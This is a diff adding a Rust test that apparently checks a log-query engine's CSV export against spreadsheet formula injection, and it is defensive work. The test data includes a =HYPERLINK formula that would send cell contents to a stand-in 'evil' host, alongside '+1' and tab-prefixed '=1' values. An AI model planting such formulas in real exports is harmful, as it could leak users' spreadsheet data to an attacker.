@@ -220,6 +220,57 @@ async fn sql_asks_for_runs_by_their_last_key() {
     }
 }
 
+/// Who has no right at all chooses an agent, and finds it in a record of her refusal.
+#[tokio::test]
+async fn no_text_of_an_answer_as_csv_is_a_formula() {
+    let mut rows = Vec::new();
+    for (n, agent) in [
+        (1, "=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
+        (2, "+1"),
+        (3, "\t=1"),
+    ] {
+        let mut row = row(n, "rosa", "ecg", 5);
+        let mut session = row.session.take().unwrap().as_ref().clone();
+        session.user_agent = agent.to_owned();
+        row.session = Some(Arc::new(session));
+        rows.push(row);
+    }
+    let batch = crate::archive::batch("gw-1", &rows).unwrap();
+    let context = engine(LogTable::of(eyes(), vec![batch])).unwrap();
+    for (sql, wanted) in [
+        ("SELECT agent, bytes FROM requests ORDER BY seq", "\n'+1,"),
+        ("SELECT upper(agent) AS \"=1\" FROM requests", "'=1\n"),
+        (
+            "SELECT DISTINCT arrow_cast(agent, 'Utf8View') AS a FROM requests",
+            "'+1",
+        ),
+        (
+            "SELECT '-' || seq AS a, -1 AS b FROM requests",
+            "\n'-1,-1\n",
+        ),
+        (
+            "SELECT arrow_cast(agent, 'Dictionary(Int32, Utf8)') AS a FROM requests",
+            "'+1",
+        ),
+    ] {
+        let frame = plan(&context, sql).await.unwrap();
+        let batches = frame.collect().await.unwrap();
+        let mut text = String::new();
+        for (n, batch) in batches.iter().enumerate() {
+            let lines = super::cells::lines(batch, n == 0).unwrap();
+            text.push_str(std::str::from_utf8(&lines).unwrap());
+        }
+        assert!(text.contains(wanted), "{sql}: {text}");
+        for line in text.lines() {
+            let cell = line.trim_start_matches('"');
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t']),
+                "{sql}: {line}"
+            );
+        }
+    }
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_query_that_does_not_end_is_ended() {
     let endless = "SELECT count(*) FROM generate_series(1, 3000000) a, generate_series(1, 3000000) b \
